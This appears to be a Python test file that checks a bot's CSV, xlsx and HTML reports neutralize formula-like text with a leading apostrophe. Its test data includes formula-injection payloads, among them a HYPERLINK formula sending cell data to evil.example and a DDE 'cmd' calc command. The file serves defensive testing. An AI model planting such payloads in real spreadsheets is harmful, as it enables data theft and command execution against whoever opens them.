"""Formula injection: a text from the campaign or the staff tool that starts like a formula stays text in the
journal CSV, the xlsx and the HTML summary (one rule: a leading apostrophe)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from bot.report.cells import FORMULA_STARTS, neutralize
from tests.unit.test_report import FACTS, make_book

HOSTILE = {
    "sender": '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
    "title": "+SUM(1,1)",
    "unit": "@SUM(A1:A9)",
    "detail": "-2+3+cmd|' /C calc'!A0",
    "template": "\t=1+1",
}


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_neutralize_should_prefix_every_formula_start_with_an_apostrophe(start):
    assert neutralize(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Anna", "19121212-****", "", " =1", 5, -5, None])
def test_neutralize_should_leave_other_values_alone(value):
    assert neutralize(value) == value


@pytest.fixture
def hostile_reports(tmp_path: Path) -> list[Path]:
    facts = {
        **FACTS,
        "ansvarig_avsandare": {"name": HOSTILE["sender"], "title": HOSTILE["title"], "unit": HOSTILE["unit"]},
        "template": HOSTILE["template"],
    }
    book = make_book(tmp_path, 2, facts=facts)
    book.ledger.mark_sending([book.ids[0]])
    book.ledger.mark_sent(book.ids[0], "A-1", "2024-05-01T08:00:00.000000Z")
    book.ledger.mark_not_reachable(book.ids[1], "login_locked", HOSTILE["detail"])
    yield book.write()
    book.ledger.close()


def _formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def test_journal_csv_should_start_no_cell_like_a_formula(hostile_reports):
    csv_path = next(p for p in hostile_reports if p.suffix == ".csv")
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if _formula_like(c)] == []
    assert "'" + HOSTILE["sender"] in " ".join(cells)
    assert "'" + HOSTILE["template"] in cells


def test_xlsx_should_start_no_text_cell_like_a_formula(hostile_reports):
    workbook = openpyxl.load_workbook(next(p for p in hostile_reports if p.suffix == ".xlsx"))
    texts = [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert [t for t in texts if _formula_like(t)] == []
    assert all(cell.data_type != "f" for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row)
    assert "'" + HOSTILE["detail"] in texts


def test_html_summary_should_show_formula_like_texts_with_the_apostrophe(hostile_reports):
    page = next(p for p in hostile_reports if p.suffix == ".html").read_text(encoding="utf-8")
    assert ">&#x27;@SUM(A1:A9)<" in page and ">&#x27;=HYPERLINK(" in page
    assert ">@SUM" not in page and ">=HYPERLINK" not in page
